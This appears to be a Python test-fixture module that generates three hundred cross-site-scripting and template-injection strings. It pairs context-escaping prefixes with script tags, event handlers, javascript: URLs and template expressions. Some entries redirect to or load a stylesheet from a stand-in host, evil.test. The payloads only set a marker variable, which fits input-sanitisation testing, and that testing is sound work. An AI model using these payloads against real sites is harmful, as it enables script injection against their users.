"""
Three hundred texts that run a script wherever one of them is taken for markup, code, an address or a template.

Each sets ``hacked``; each is short enough for every text field and holds nothing that a place may not be called.
"""

OPENINGS = (
    "",
    "'",
    '"',
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</script>",
    "</style>",
    "</textarea>",
    "`",
)
"""How a text leaves what it was put into: an attribute, a comment, CDATA, an element of raw text, a template."""

MARKUP = (
    "<script>hacked=1</script>",
    "<ScRiPt >hacked=1</sCrIpT>",
    "<img src=x onerror=hacked=1>",
    "<IMG SRC=x ONERROR=hacked&#61;1>",
    "<img src=x onerror\n=hacked=1>".replace("\n", "\u00a0"),
    "<svg onload=hacked=1>",
    "<svg/onload=hacked=1//",
    "<svg><script>hacked=1</script></svg>",
    "<svg><animate onbegin=hacked=1 attributeName=x>",
    "<body onload=hacked=1>",
    "<iframe src=javascript:hacked=1>",
    "<iframe srcdoc='<script>top.hacked=1</script>'>",
    "<video><source onerror=hacked=1>",
    "<audio src=x onerror=hacked=1>",
    "<details open ontoggle=hacked=1>",
    "<input autofocus onfocus=hacked=1>",
    "<marquee onstart=hacked=1>",
    "<object data=javascript:hacked=1>",
    "<embed src=javascript:hacked=1>",
    "<a href=javascript:hacked=1>x</a>",
    "<form action=javascript:hacked=1><button>",
    "<meta http-equiv=refresh content=0;url=//evil.test>",
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/x.css>",
)
BARE = (
    "${hacked=1}",
    "`+(hacked=1)+`",
    "';hacked=1//",
    '";hacked=1//',
    "\\';hacked=1//",
    "{{hacked=1}}",
    "{% set hacked=1 %}",
    "#{hacked=1}",
    "javascript:hacked=1",
    "data:text/html,<script>hacked=1</script>",
    "\\u003cscript\\u003ehacked=1\\u003c/script\\u003e",
    "&lt;script&gt;hacked=1&lt;/script&gt;",
)
HOSTILE_WORDS = tuple(f"{opening}{body}" for opening in OPENINGS for body in MARKUP) + BARE
"""All of them, in an order that stays."""
